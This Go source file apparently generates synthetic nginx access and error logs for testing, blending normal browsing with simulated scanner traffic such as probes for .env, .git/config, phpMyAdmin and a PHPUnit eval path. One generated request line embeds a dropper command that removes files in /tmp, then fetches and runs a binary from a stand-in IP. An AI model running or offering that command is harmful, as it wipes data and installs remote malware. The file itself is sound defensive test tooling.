package logtest

import (
	"fmt"
	"strings"
)

// access is a line of nginx's combined format.
func (l *Log) access(attack bool) string {
	date := l.now.Format("02/Jan/2006:15:04:05 -0700")
	if attack {
		return l.scan(date)
	}
	user, method, status := "-", "GET", l.status()
	if l.chance(0.02) {
		user = "alice"
	}
	if l.chance(0.1) {
		method = l.pick("POST", "HEAD", "OPTIONS", "PUT")
	}
	size := l.upTo(120, 90_000)
	if status == 301 || status == 304 || status == 499 {
		size = 0
	}
	return fmt.Sprintf(`%s - %s [%s] "%s %s HTTP/%s" %d %d "%s" "%s"`,
		l.friend(), user, date, method, l.path(), l.pick("1.1", "2.0"), status, size, l.referrer(), l.browser())
}

// status is one of an honest request; some of these fail too.
func (l *Log) status() int {
	n := l.IntN(1000)
	for _, s := range []struct{ status, of int }{{200, 860}, {304, 60}, {301, 30}, {206, 20}, {404, 15}, {500, 3}, {403, 4}} {
		if n -= s.of; n < 0 {
			return s.status
		}
	}
	return 499
}

// scan is what an attacker asks for.
func (l *Log) scan(date string) string {
	from := l.foe()
	switch n := l.IntN(100); {
	case n < 45:
		return fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" 404 153 "-" "%s"`, from, date, l.pick("GET", "GET", "POST", "HEAD"), l.bait(), l.browser())
	case n < 75:
		return fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" %s 153 "-" "%s"`, from, date, l.hole(), l.pick("404", "404", "404", "403"), l.browser())
	case n < 90:
		return fmt.Sprintf(`%s - - [%s] "%s" 400 157 "-" "-"`, from, date, l.garbage())
	}
	return fmt.Sprintf(`%s - - [%s] "GET /admin/ HTTP/1.1" 401 179 "-" "%s"`, from, date, l.browser())
}

// error is a line of nginx's error log.
func (l *Log) error(attack bool) string {
	level, from, path, text := "error", l.friend(), l.path(), ""
	if attack {
		text, from, path = l.refused()
	} else {
		switch n := l.IntN(100); {
		case n < 45:
			path = l.pick("/favicon.ico", "/apple-touch-icon.png", "/ads.txt", fmt.Sprintf("/img/missing-%d.png", l.upTo(1, 999)))
			text = missing(path)
		case n < 75:
			text = "upstream timed out (110: Connection timed out) while reading response header from upstream"
		case n < 90:
			level = "warn"
			text = fmt.Sprintf("an upstream response is buffered to a temporary file /var/cache/nginx/proxy_temp/%d/%02d/%010d while reading upstream", l.IntN(10), l.IntN(100), l.upTo(1, 99999))
		default:
			level, text = "info", fmt.Sprintf("client %s closed keepalive connection", from)
		}
	}
	line := fmt.Sprintf("%s [%s] %d#%d: *%d %s", l.now.Format("2006/01/02 15:04:05"), level, l.upTo(811, 814), l.upTo(811, 814), l.upTo(1000, 9_999_999), text)
	if level == "info" {
		return line
	}
	line += fmt.Sprintf(`, client: %s, server: example.com, request: "GET %s HTTP/1.1", host: "example.com"`, from, path)
	if !attack && l.chance(0.4) {
		line += `, referrer: "https://example.com/"`
	}
	return line
}

// refused is what nginx says of an attacker.
func (l *Log) refused() (text, from, path string) {
	from = l.foe()
	switch n := l.IntN(100); {
	case n < 35:
		user := l.pick("admin", "root", "test", "user", "manager")
		return fmt.Sprintf(l.pick(`user "%s": password mismatch`, `user "%s" was not found in "/etc/nginx/.htpasswd"`), user), from, "/admin/"
	case n < 65:
		return fmt.Sprintf(`limiting requests, excess: %d.%03d by zone "%s"`, l.upTo(5, 60), l.IntN(1000), l.pick("login", "perip", "api")), from, "/login"
	case n < 85:
		path = l.bait()
		return missing(path), from, path
	}
	return "access forbidden by rule", from, l.pick("/.env", "/.git/config", "/.htaccess")
}

func missing(path string) string {
	return fmt.Sprintf(`open() "/var/www/html%s" failed (2: No such file or directory)`, path)
}

func (l *Log) path() string {
	p := l.pick("/", "/index.html", "/about", "/blog/", "/blog/2025/#/post-#", "/static/css/app.#.css", "/static/js/app.#.js",
		"/static/img/#.webp", "/api/v1/items?page=#", "/api/v1/items/#", "/api/v1/users/me", "/search?q=term#&sort=desc",
		"/shop/product/#", "/shop/cart", "/favicon.ico", "/robots.txt", "/feed.xml", "/login", "/assets/fonts/inter-#.woff2")
	return strings.ReplaceAll(p, "#", fmt.Sprint(l.upTo(1, 9999)))
}

// bait is a page that only what looks for it asks for.
func (l *Log) bait() string {
	return l.pick("/wp-login.php", "/wp-admin.php", "/phpmyadmin/index.php", "/phpMyAdmin/scripts/setup.php", "/pma/index.php",
		"/admin/phpmyadmin/index.php", "/roundcube/index.php", "/webmail/", "/cgi-bin/luci", "/mysqladmin/index.php", "/xampp/phpmyadmin/index.php", "/mail/")
}

// hole is a page that tells something, or runs something.
func (l *Log) hole() string {
	return l.pick("/.env", "/.git/config", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin",
		"/actuator/health", "/config.json", "/backup.zip", "/server-status", "/solr/admin/info/system?wt=json", "/owa/auth/logon.aspx", "/HNAP1",
		"/shell?cd+/tmp;rm+-rf+*;wget+http://203.0.113.7/jaws;sh+/tmp/jaws")
}

// garbage is no HTTP, as nginx writes it.
func (l *Log) garbage() string {
	hello := fmt.Sprintf(`\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03\x%02X`, l.upTo(65, 89))
	return l.pick(hello, hello, hello, `\x03\x00\x00/*\xE0\x00\x00\x00\x00\x00Cookie: mstshash=Administr`, `MGLNDD_198.51.100.10_443\x0A`)
}

func (l *Log) referrer() string {
	return l.pick("-", "-", "https://example.com/", "https://example.com/blog/", "https://www.google.com/", "https://duckduckgo.com/")
}

func (l *Log) browser() string {
	switch n := l.IntN(46); {
	case n < 14:
		return fmt.Sprintf("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36", 118+n)
	case n < 21:
		return fmt.Sprintf("Mozilla/5.0 (iPhone; CPU iPhone OS 17_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%d Mobile/15E148 Safari/604.1", n-14, n-14)
	case n < 40:
		return fmt.Sprintf("Mozilla/5.0 (X11; Linux x86_64; rv:%d.0) Gecko/20100101 Firefox/%d.0", 94+n, 94+n)
	}
	return l.pick("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1")
}
